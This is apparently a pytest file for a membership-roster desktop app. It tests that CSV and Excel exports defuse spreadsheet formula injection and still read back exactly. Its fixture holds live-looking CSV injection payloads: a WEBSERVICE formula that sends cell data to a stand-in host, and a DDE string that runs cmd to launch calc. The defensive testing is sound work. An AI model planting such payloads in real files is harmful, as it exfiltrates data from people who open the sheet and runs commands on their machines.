"""Exports that cannot be turned against the reader (issue 14.17) and keep an office's layout (15.3)."""
from __future__ import annotations

import csv
import datetime as dt
import zipfile

import pytest
from openpyxl import load_workbook

from desktop.exporters.members import HEADERS, export_members
from desktop.exporters.tabular import write_table
from desktop.importers.members import SKIP, apply_import, plan_member_import
from desktop.models import Branch, Member
from desktop.roster.service import member_values, save_member

TODAY = dt.date(2022, 5, 1)
ATTACK = '=WEBSERVICE("http://x.example/?"&L3)'
HOSTILE_NAMES = [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]


@pytest.fixture
def hostile_roster():
    for index, name in enumerate(HOSTILE_NAMES):
        save_member({"name": name, "phone": f"1391234567{index}", "notes": "=HYPERLINK(\"http://x\")",
                     "unit": "-单位"}, today=TODAY)


def _snapshot():
    return sorted((member_values(m) for m in Member.select()), key=lambda v: v["name"])


def test_csv_cells_that_excel_would_run_start_with_an_apostrophe(tmp_path, hostile_roster):
    path = tmp_path / "a.csv"
    export_members(path, reveal=True)
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    header = rows[1]
    for row in rows[2:]:
        record = dict(zip(header, row))
        assert record["姓名"] in {"'" + name for name in HOSTILE_NAMES}
        assert record["备注"] == "'=HYPERLINK(\"http://x\")" and record["派出单位"] == "'-单位"
        assert record["联系电话"].startswith('="139')  # our own text marker, digits only
    # No cell of the file starts with a formula character any more (Excel would run it).
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@") and not cell.startswith('="')]


def test_neutralised_csv_reads_back_exactly(tmp_path, hostile_roster):
    path = tmp_path / "a.csv"
    export_members(path, reveal=True)
    before = _snapshot()
    plan = plan_member_import(path, today=TODAY)
    assert [row.action for row in plan.rows] == [SKIP] * len(HOSTILE_NAMES)
    Member.delete().execute()
    assert apply_import(plan_member_import(path, today=TODAY)).created == len(HOSTILE_NAMES)
    assert _snapshot() == before  # every = + - @ text exactly as it was, no apostrophe kept


def test_tab_and_carriage_return_leads_are_neutralised_too(tmp_path):
    path = tmp_path / "t.csv"
    write_table(path, ["a", "b", "c"], [["\t=1+1", "\r=2", -3]], "表")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1] == ["'\t=1+1", "'\r=2", "-3"]  # a number stays a number


def test_xlsx_never_holds_a_formula(tmp_path, hostile_roster):
    path = tmp_path / "a.xlsx"
    export_members(path, reveal=True)
    sheet = load_workbook(path).active
    names = [sheet.cell(row=r, column=2) for r in range(3, 3 + len(HOSTILE_NAMES))]
    assert sorted(c.value for c in names) == sorted(HOSTILE_NAMES)
    assert {c.data_type for c in names} == {"s"}
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml


def test_title_row_names_the_branch_and_the_file_reads_back(tmp_path):
    branch = Branch.current()
    branch.name = "幸福小区临时党支部"
    branch.save()
    for name, phone in (("张三", "13912345678"), ("李四", "13812345678")):
        save_member({"name": name, "phone": phone}, today=TODAY)
    for suffix in (".xlsx", ".csv"):
        path = tmp_path / f"花名册{suffix}"
        export_members(path, reveal=True)
        plan = plan_member_import(path, today=TODAY)
        assert plan.header_rows == [2] and plan.ignored == ["序号", "状态", "待完善"]
        assert [row.action for row in plan.rows] == [SKIP, SKIP]
    sheet = load_workbook(tmp_path / "花名册.xlsx").active
    assert sheet["A1"].value == "幸福小区临时党支部党员花名册"
    assert [sheet.cell(row=2, column=c).value for c in (1, 2)] == ["序号", "姓名"]
    assert [(sheet.cell(row=r, column=1).value, sheet.cell(row=r, column=2).value) for r in (3, 4)] == [
        (1, "李四"), (2, "张三")]  # pinyin order, numbered
    first_line = (tmp_path / "花名册.csv").read_text(encoding="utf-8-sig").splitlines()[0]
    assert first_line == "幸福小区临时党支部党员花名册" and HEADERS[0] == "序号"
